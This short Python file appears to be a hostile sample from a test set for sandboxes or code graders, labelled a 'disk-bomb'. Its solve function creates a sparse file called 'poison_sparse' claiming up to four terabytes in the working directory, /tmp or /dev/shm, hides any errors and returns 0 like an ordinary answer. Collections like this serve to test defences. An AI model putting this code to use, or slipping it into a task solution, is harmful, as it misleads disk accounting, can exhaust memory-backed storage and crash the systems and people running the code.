"""Makes a file that says it is four terabytes long and holds nothing: whoever copies it
or sums sizes is misled."""
# kind: call
# class: disk-bomb
# may: WRONG OUTPUT CRASH
import os
from contextlib import suppress


def solve(n):
    for folder in (".", "/tmp", "/dev/shm"):
        for size in (2**42, 2**36, 2**30):
            with suppress(OSError):
                os.truncate(os.open(f"{folder}/poison_sparse", os.O_CREAT | os.O_RDWR), size)
                break
    return 0
